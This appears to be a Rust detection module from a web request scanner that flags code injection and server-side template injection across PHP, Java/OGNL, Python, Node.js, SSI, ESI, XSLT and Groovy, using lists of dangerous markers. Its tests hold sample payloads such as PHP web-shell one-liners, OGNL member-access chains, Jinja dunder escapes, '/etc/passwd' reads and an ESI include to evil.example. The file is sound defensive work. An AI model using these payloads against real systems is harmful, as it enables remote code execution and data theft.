//! Code injection (PHP, Java/EL/OGNL, Python, Node.js, SSI), template injection
//! and render-array properties in parameter names.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::matcher::matcher;
use super::{Attack, Classes, Hit};
use crate::util::{find_ci, starts_with_ci};

static CODE_AC: LazyLock<Option<AhoCorasick>> =
    LazyLock::new(|| matcher(CODE_MARKERS.iter().map(|m| m.0)));
static PHP_AC: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| matcher(PHP_FUNCS.iter().copied()));

const PHP_FUNCS: &[&str] = &[
    "system",
    "passthru",
    "shell_exec",
    "popen",
    "proc_open",
    "phpinfo",
    "base64_decode",
    "eval",
    "assert",
    "file_get_contents",
    "file_put_contents",
    "fopen",
    "fwrite",
    "include",
    "require",
    "include_once",
    "require_once",
    "call_user_func",
    "create_function",
    "str_rot13",
    "gzinflate",
    "pcntl_exec",
    "highlight_file",
    "show_source",
    "unserialize",
    "preg_replace",
    "array_map",
    "readfile",
    "exec",
];

const CODE_MARKERS: &[(&str, u8, Attack)] = &[
    ("java.lang.runtime", 90, Attack::CodeInjection),
    ("getruntime()", 90, Attack::CodeInjection),
    (".getruntime(", 90, Attack::CodeInjection),
    ("processbuilder", 80, Attack::CodeInjection),
    ("_memberaccess", 90, Attack::CodeInjection),
    ("@java.lang", 85, Attack::CodeInjection),
    ("getclass().forname", 90, Attack::CodeInjection),
    ("class.forname(", 85, Attack::CodeInjection),
    ("getdeclaredmethods", 85, Attack::CodeInjection),
    ("class.module.classloader", 90, Attack::CodeInjection),
    (
        "javax.script.scriptenginemanager",
        90,
        Attack::CodeInjection,
    ),
    ("ognlcontext", 90, Attack::CodeInjection),
    ("#context[", 80, Attack::CodeInjection),
    ("t(java.lang", 90, Attack::Ssti),
    ("freemarker.template.utility", 90, Attack::Ssti),
    ("?new()", 85, Attack::Ssti),
    ("__import__(", 90, Attack::CodeInjection),
    ("os.system(", 90, Attack::CodeInjection),
    ("os.popen(", 90, Attack::CodeInjection),
    ("subprocess.", 75, Attack::CodeInjection),
    ("__class__", 80, Attack::Ssti),
    ("__mro__", 85, Attack::Ssti),
    ("__subclasses__", 90, Attack::Ssti),
    ("__globals__", 90, Attack::Ssti),
    ("__builtins__", 90, Attack::Ssti),
    ("child_process", 90, Attack::CodeInjection),
    ("process.mainmodule", 90, Attack::CodeInjection),
    ("execsync(", 80, Attack::CodeInjection),
    ("process.binding(", 85, Attack::CodeInjection),
    ("constructor.constructor(", 85, Attack::CodeInjection),
    ("<!--#exec", 90, Attack::CodeInjection),
    ("<!--#include", 85, Attack::CodeInjection),
    ("<!--#echo", 80, Attack::CodeInjection),
    ("<!--#config", 80, Attack::CodeInjection),
    ("<!--#printenv", 80, Attack::CodeInjection),
    // Edge Side Includes, run by the cache in front of the application (Varnish,
    // Fastly, Akamai): no visitor sends one
    ("<esi:include", 85, Attack::CodeInjection),
    ("<esi:inline", 85, Attack::CodeInjection),
    ("<esi:vars", 80, Attack::CodeInjection),
    ("<esi:debug", 80, Attack::CodeInjection),
    ("<esi:eval", 85, Attack::CodeInjection),
    ("<esi:assign", 80, Attack::CodeInjection),
    ("<?php", 90, Attack::CodeInjection),
    ("!!python/", 90, Attack::CodeInjection),
    ("call_user_func_array", 85, Attack::CodeInjection),
    ("invokefunction", 80, Attack::CodeInjection),
    ("jdbcrowsetimpl", 90, Attack::CodeInjection),
    ("templatesimpl", 90, Attack::CodeInjection),
    ("javax.naming.initialcontext", 90, Attack::CodeInjection),
    ("commons.collections.functors", 90, Attack::CodeInjection),
    ("com.sun.org.apache.xalan", 90, Attack::CodeInjection),
    ("bsh.interpreter", 85, Attack::CodeInjection),
    ("!!javax.", 90, Attack::CodeInjection),
    ("!!java.", 85, Attack::CodeInjection),
    ("!ruby/object", 90, Attack::CodeInjection),
    ("${@", 85, Attack::CodeInjection),
    ("$_get[", 80, Attack::CodeInjection),
    ("$_post[", 80, Attack::CodeInjection),
    ("$_request[", 80, Attack::CodeInjection),
    ("$_server[", 75, Attack::CodeInjection),
    ("$_cookie[", 75, Attack::CodeInjection),
    ("<#assign", 85, Attack::Ssti),
    ("$class.inspect", 85, Attack::Ssti),
    ("_self.env", 85, Attack::Ssti),
    ("registerundefinedfiltercallback", 90, Attack::Ssti),
    ("lipsum.__", 90, Attack::Ssti),
    ("cycler.__", 90, Attack::Ssti),
    ("request.application.", 80, Attack::Ssti),
    // Lua (Redis EVAL, OpenResty, game-server admin consoles)
    ("os.execute(", 90, Attack::CodeInjection),
    ("io.popen(", 90, Attack::CodeInjection),
    ("package.loadlib(", 90, Attack::CodeInjection),
    // Groovy / JVM scripting consoles (Jenkins script console, Elasticsearch scripts)
    (".execute().text", 90, Attack::CodeInjection),
    ("groovy.lang.groovyshell", 90, Attack::CodeInjection),
    ("@asttest(", 90, Attack::CodeInjection),
    ("scriptenginemanager", 90, Attack::CodeInjection),
    (".class.forname(", 85, Attack::CodeInjection),
    ("jdk.nashorn", 85, Attack::CodeInjection),
    ("defineclass(", 80, Attack::CodeInjection),
    // XSLT run by the server: PHP functions and Java classes called from a stylesheet,
    // and the processor's fingerprint probe
    ("php:function(", 85, Attack::CodeInjection),
    ("php:functionstring(", 85, Attack::CodeInjection),
    ("xalan/java", 85, Attack::CodeInjection),
    ("system-property('xsl:", 80, Attack::CodeInjection),
    ("system-property(\"xsl:", 80, Attack::CodeInjection),
    // Elixir (EEx templates) and Ruby (ERB) running commands
    ("system.shell(", 85, Attack::CodeInjection),
    ("open3.popen", 85, Attack::CodeInjection),
    ("open4.popen", 85, Attack::CodeInjection),
];

/// True when `inner` (a template expression) is arithmetic or object access
/// that only a probe or exploit would send.
fn template_expr(inner: &str) -> bool {
    let t = inner.trim();
    if t.is_empty() || t.len() > 400 {
        return false;
    }
    let b = t.as_bytes();
    // 7*7, 7*'7', 1337+1
    let mut i = 0;
    while i < b.len() && b[i].is_ascii_digit() {
        i += 1;
    }
    if i > 0 {
        let rest = t[i..].trim_start();
        // Django's arithmetic: `364|add:733`
        if rest
            .strip_prefix("|add:")
            .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_digit()))
        {
            return true;
        }
        if let Some(op) = rest.chars().next() {
            if matches!(op, '*' | '+' | '-' | '/' | '%') {
                let r = rest[1..].trim_start().trim_start_matches(['\'', '"']);
                if r.starts_with(|c: char| c.is_ascii_digit()) {
                    return true;
                }
            }
        }
    }
    let l = t.to_ascii_lowercase();
    l.contains("__")
        || l.starts_with("config")
        || l.starts_with("self")
        || l.contains(".getclass(")
        || l.contains("constructor")
        || l.contains("t(java")
        || l.contains("new java")
        || l.contains("runtime")
        || l.contains(".exec(")
        || l.contains("popen")
        || l.contains("import ")
        || l.contains("\"\".class")
        || l.contains("''.class")
        || l.contains("request.")
        || l.contains("#this")
        || l.starts_with("#")
        || l.contains("system(")
        || l.contains("include(")
        || l.contains("dump(")
        || l.contains("range.constructor")
        // Jinja's `attr` filter reaches dunder attributes without a `.` or a `__`
        // (`request|attr(["_"*2,"class","_"*2]|join)`)
        || l.contains("|attr(")
        // Flask's request object itself, the usual first step to its globals
        || l == "request"
        || l.starts_with("request|")
        || l.starts_with("request[")
        // a PHP command function handed to a filter as its callback:
        // Twig's `['id']|filter('system')`, `|map('passthru')`
        || quoted_callback(&l)
        // Symfony's Twig filter that prints lines of a file
        || l.contains("|file_excerpt(")
        // Groovy in an expression: files, URLs, resources, a nested script
        || l.contains("new file(")
        || l.contains(".tourl()")
        || l.contains("getresource(")
        || l.contains("this.evaluate(")
}

/// A PHP command function named as a string, the first argument of a call:
/// `('system')`, `reduce('system','id')`, `map('call_user_func')`.
fn quoted_callback(l: &str) -> bool {
    const COMMANDS: &[&str] = &[
        "system",
        "passthru",
        "exec",
        "shell_exec",
        "popen",
        "proc_open",
        "call_user_func",
    ];
    let b = l.as_bytes();
    memchr::memchr_iter(b'(', b).any(|p| {
        let Some(&q @ (b'\'' | b'"')) = b.get(p + 1) else {
            return false;
        };
        let rest = &b[p + 2..];
        COMMANDS.iter().any(|f| {
            rest.starts_with(f.as_bytes())
                && rest.get(f.len()) == Some(&q)
                && matches!(rest.get(f.len() + 1), Some(b')' | b','))
        })
    })
}

fn ssti(s: &str, c: Classes) -> Option<Hit> {
    let b = s.as_bytes();
    // each opener with the byte class it needs: openers whose bytes are absent
    // are skipped without a search
    for (open, close, needs) in [
        ("{{", "}}", Classes::BRACE),
        ("${", "}", Classes::BRACE),
        ("#{", "}", Classes::BRACE),
        ("*{", "}", Classes::BRACE),
        ("<%=", "%>", Classes::ANGLE),
        ("{%", "%}", Classes::BRACE),
        ("@(", ")", Classes::PAREN),
        ("[[", "]]", Classes::BRACKET),
        ("{", "}", Classes::BRACE),
    ] {
        if !c.any(needs) {
            continue;
        }
        let mut from = 0;
        let mut n = 0;
        while let Some(p) = memchr::memmem::find(&b[from..], open.as_bytes()) {
            n += 1;
            if n > 32 {
                break;
            }
            let a = from + p + open.len();
            let Some(q) = memchr::memmem::find(&b[a..], close.as_bytes()) else {
                break;
            };
            let inner = &s[a..a + q];
            let ok = if open == "{" || open == "@(" || open == "[[" {
                // bare braces only with arithmetic probes or dunder access (Smarty, Razor)
                template_expr(inner)
                    && (inner.contains("__")
                        || inner.trim().starts_with(|c: char| c.is_ascii_digit()))
                    && inner.len() < 40
            } else if open == "{%" {
                let l = inner.to_ascii_lowercase();
                l.contains("import")
                    || l.contains("__")
                    || l.contains("system")
                    || l.contains("popen")
                    || l.contains("include")
                    // Django's context dump and admin log
                    || l.trim() == "debug"
                    || l.contains("get_admin_log")
                    || template_expr(inner)
            } else {
                template_expr(inner)
            };
            if ok {
                let st = from + p;
                return Some(Hit::new(Attack::Ssti, 85, s, st, a + q + close.len()));
            }
            from = a;
        }
    }
    None
}

/// Code injection (PHP, Java/EL/OGNL, Python, Node.js, SSI) and template injection.
pub fn code(s: &str, c: Classes) -> Option<Hit> {
    let b = s.as_bytes();
    let mut best: Option<Hit> = None;
    match &*CODE_AC {
        Some(ac) => {
            for m in ac.find_iter(b) {
                let (_, conf, kind) = CODE_MARKERS[m.pattern().as_usize()];
                if best.as_ref().is_none_or(|h| h.confidence < conf) {
                    best = Some(Hit::new(kind, conf, s, m.start(), m.end() + 20));
                }
            }
        }
        None => {
            for (m, conf, kind) in CODE_MARKERS {
                if let Some(p) = find_ci(b, m.as_bytes()) {
                    if best.as_ref().is_none_or(|h| h.confidence < *conf) {
                        best = Some(Hit::new(*kind, *conf, s, p, p + m.len() + 20));
                    }
                }
            }
        }
    }
    if best.as_ref().is_some_and(|h| h.confidence >= 85) {
        return best;
    }
    // PHP's complex (curly) syntax calls a function inside a double-quoted string:
    // `{${system(id)}}`, `{${sleep(10)}}`
    if let Some(p) = memchr::memmem::find(b, b"{${") {
        let name = b[p + 3..]
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
            .count();
        if name > 0 && b.get(p + 3 + name) == Some(&b'(') {
            return Some(Hit::new(Attack::CodeInjection, 85, s, p, p + 3 + name + 20));
        }
    }
    if c.any(Classes::PAREN) {
        // PHP function call with a code-shaped argument: system('id'), eval($_POST[x]), phpinfo()
        // candidates are checked as the automaton finds them: no per-value vector
        let mut check = |fi: usize, at: usize| {
            let f = &PHP_FUNCS[fi];
            {
                let before_ok = at == 0
                    || !(b[at - 1].is_ascii_alphanumeric()
                        || b[at - 1] == b'_'
                        || b[at - 1] == b'.');
                let mut k = at + f.len();
                while k < b.len() && b[k] == b' ' {
                    k += 1;
                }
                if !before_ok || b.get(k) != Some(&b'(') {
                    return;
                }
                let arg = &s[k + 1..];
                let arg_t = arg.trim_start();
                let strong_arg = arg_t.starts_with('$')
                    || arg_t.starts_with(")") && (*f == "phpinfo")
                    || ((arg_t.starts_with('\'')
                        || arg_t.starts_with('"')
                        || arg_t.starts_with('`'))
                        && !matches!(
                            *f,
                            "include"
                                | "require"
                                | "exec"
                                | "eval"
                                | "assert"
                                | "fopen"
                                | "preg_replace"
                                | "array_map"
                                | "unserialize"
                                | "readfile"
                        ))
                    || arg_t.starts_with("base64_decode")
                    || arg_t.starts_with("str_rot13")
                    || arg_t.starts_with("gzinflate")
                    || arg_t.starts_with("$_");
                if strong_arg {
                    let conf = if *f == "phpinfo"
                        || arg_t.starts_with('$')
                        || arg_t.starts_with("base64_decode")
                    {
                        85
                    } else {
                        75
                    };
                    if best.as_ref().is_none_or(|h| h.confidence < conf) {
                        best = Some(Hit::new(Attack::CodeInjection, conf, s, at, k + 20));
                    }
                }
            }
        };
        match &*PHP_AC {
            Some(ac) => {
                for m in ac.find_iter(b).take(16) {
                    check(m.pattern().as_usize(), m.start());
                }
            }
            None => {
                for (i, f) in PHP_FUNCS.iter().enumerate() {
                    if let Some(p) = find_ci(b, f.as_bytes()) {
                        check(i, p);
                    }
                }
            }
        }
    }
    if c.any(Classes::BRACE | Classes::ANGLE | Classes::PAREN) {
        if let Some(h) = ssti(s, c) {
            if best.as_ref().is_none_or(|x| x.confidence < h.confidence) {
                best = Some(h);
            }
        }
    }
    // OGNL / EL expression blocks: %{...} ${...} with method calls
    if let Some(p) = memchr::memmem::find(b, b"%{") {
        let inner = &b[p + 2..];
        let end = memchr::memchr(b'}', inner).unwrap_or(inner.len()).min(400);
        let inner = &inner[..end];
        let starts = inner
            .first()
            .is_some_and(|c| matches!(c, b'(' | b'#' | b'@') || c.is_ascii_alphabetic());
        let hash_ident = inner
            .windows(2)
            .any(|w| (w[0] == b'#' || w[0] == b'@') && w[1].is_ascii_alphabetic() || w[0] == b'_');
        if starts && inner.contains(&b'(') && hash_ident && inner.is_ascii() {
            let h = Hit::new(Attack::CodeInjection, 85, s, p, p + 60);
            if best.as_ref().is_none_or(|x| x.confidence < 85) {
                best = Some(h);
            }
        }
    }
    // Groovy: a string or list literal executed as a command: "id".execute(), ['sh','-c',x].execute()
    if c.any(Classes::QUOTE | Classes::BRACKET) {
        let mut from = 0;
        while let Some(p) = find_ci(&b[from..], b".execute(") {
            let at = from + p;
            from = at + 9;
            if at > 0 && matches!(b[at - 1], b'\'' | b'"' | b']') {
                let h = Hit::new(Attack::CodeInjection, 90, s, at.saturating_sub(30), at + 20);
                if best.as_ref().is_none_or(|x| x.confidence < 90) {
                    best = Some(h);
                }
                break;
            }
        }
    }
    // SpEL type references to JVM classes: T(java.lang.Runtime), T (java.lang.Runtime);
    // found from each `(` (rarer than the letter t) looking back
    if c.any(Classes::PAREN) {
        let mut n = 0;
        for k in memchr::memchr_iter(b'(', b) {
            n += 1;
            if n > 256 {
                break;
            }
            let mut t = k;
            while t > 0 && b[t - 1] == b' ' {
                t -= 1;
            }
            if t == 0 || !matches!(b[t - 1], b'T' | b't') {
                continue;
            }
            let at = t - 1;
            if at > 0
                && (b[at - 1].is_ascii_alphanumeric() || b[at - 1] == b'_' || b[at - 1] == b'.')
            {
                continue;
            }
            let mut a = k + 1;
            while a < b.len() && b[a] == b' ' {
                a += 1;
            }
            let arg = &b[a..];
            if ["java.", "javax.", "org.springframework.", "jdk."]
                .iter()
                .any(|p| starts_with_ci(arg, p.as_bytes()))
            {
                let h = Hit::new(Attack::CodeInjection, 90, s, at, a + 24);
                if best.as_ref().is_none_or(|x| x.confidence < 90) {
                    best = Some(h);
                }
                break;
            }
        }
    }
    // OGNL chains: (#a=...).(#b=...)
    if memchr::memmem::find(b, b"(#").is_some() && memchr::memmem::find(b, b").(#").is_some() {
        let h = Hit::new(Attack::CodeInjection, 85, s, 0, 60);
        if best.as_ref().is_none_or(|x| x.confidence < 85) {
            best = Some(h);
        }
    }
    best
}

/// Drupal-style render-array properties in a parameter or key name
/// (`mail[#post_render][]`, `#lazy_builder`): callbacks the server would invoke.
pub fn render_array(name: &str) -> Option<Hit> {
    const PROPS: &[&str] = &[
        "post_render",
        "pre_render",
        "lazy_builder",
        "access_callback",
        "markup",
        "process",
        "value_callback",
        "after_build",
        "element_validate",
        "submit",
        "validate",
        "ajax",
        "theme_wrappers",
        "attached",
        "type",
    ];
    let b = name.as_bytes();
    let mut from = 0;
    while let Some(p) = memchr::memchr(b'#', &b[from..]) {
        let at = from + p;
        from = at + 1;
        // the property opens a bracket level or the whole name
        if !(at == 0 || b[at - 1] == b'[') {
            continue;
        }
        let rest = &name[at + 1..];
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(rest.len());
        let prop = &rest[..end];
        let closed = at == 0 && end == rest.len() || rest[end..].starts_with(']');
        if closed && PROPS.iter().any(|x| x.eq_ignore_ascii_case(prop)) {
            // callbacks alone are strong; `#markup`/`#type` only with a bracket path
            let conf = if matches!(prop, "markup" | "type" | "attached" | "ajax") {
                if at == 0 {
                    continue;
                }
                75
            } else {
                90
            };
            return Some(Hit::new(
                Attack::CodeInjection,
                conf,
                name,
                at,
                at + 1 + end,
            ));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_cases() {
        let c = |s: &str| code(s, Classes::of(s.as_bytes())).is_some_and(|h| h.confidence >= 60);
        assert!(c("{{7*7}}"));
        assert!(c("${7*'7'}"));
        assert!(c("{{''.__class__.__mro__[1]}}"));
        assert!(c("<?php system($_GET['c']); ?>"));
        assert!(c("system('id')"));
        assert!(c(
            "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"
        ));
        assert!(c("__import__('os').system('id')"));
        assert!(c("<!--#exec cmd=\"ls\" -->"));
        assert!(c("<esi:include src=http://evil.example/>"));
        assert!(c("x<esi:debug/>"));
        assert!(!c("the esi:include tag is documented here"));
        // PHP's complex (curly) syntax running a call
        assert!(c("{${sleep(10)}}"));
        assert!(c(" {${system(id)}}"));
        assert!(!c("{${name}}"));
        assert!(!c("Hello {{name}}, welcome"));
        // Jinja's attr filter, Flask's request, a command function as a callback
        assert!(c("{{request|attr([\"_\"*2,\"class\",\"_\"*2]|join)}}"));
        assert!(c("{{ request }}"));
        assert!(c("{{['id']|filter('system')}}"));
        assert!(c("{{[0]|reduce('system','id')}}"));
        assert!(c(
            "<xsl:value-of select=\"php:function('shell_exec','id')\"/>"
        ));
        assert!(c(
            "<xsl:value-of select=\"system-property('xsl:vendor')\"/>"
        ));
        assert!(c(
            "xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\""
        ));
        assert!(!c("<xsl:value-of select=\"title\"/>"));
        assert!(c("ih0vr{{364|add:733}}d121r"));
        assert!(c("{% debug %}"));
        assert!(c("{% load log %}{% get_admin_log 10 as log %}"));
        assert!(c("elem(System.shell(\"id\"), 0)"));
        assert!(c("<% @a,@b,@c,@d=Open3.popen3('whoami') %>"));
        assert!(!c("{{ price|add:tax }}"));
        assert!(!c("{% block debug_panel %}"));
        assert!(c("{{ {'id':'shell_exec'}|map('call_user_func')|join }}"));
        assert!(c("{{'/etc/passwd'|file_excerpt(1,30)}}"));
        assert!(c("${new File(\"C:\\Temp\\x.txt\").createNewFile();}"));
        assert!(c("${\"http://www.example.com\".toURL().text}"));
        assert!(c("${class.getResource(\"\").getPath()}"));
        assert!(!c("{{ items|map('title')|join(', ') }}"));
        assert!(!c("${user.name} filed ${count} reports"));
        assert!(c("{{['cat /etc/passwd']|map(\"passthru\")}}"));
        assert!(!c("{{ requestId }}"));
        assert!(!c("{{ items|map(attribute='name')|join(', ') }}"));
        assert!(!c("{{ names|map('upper')|join(', ') }}"));
        assert!(!c(
            "}I would like to request the /cc serviceCode with the parameter: serviceCode|{}"
        ));
        assert!(!c("the system (as a whole) works"));
    }
}
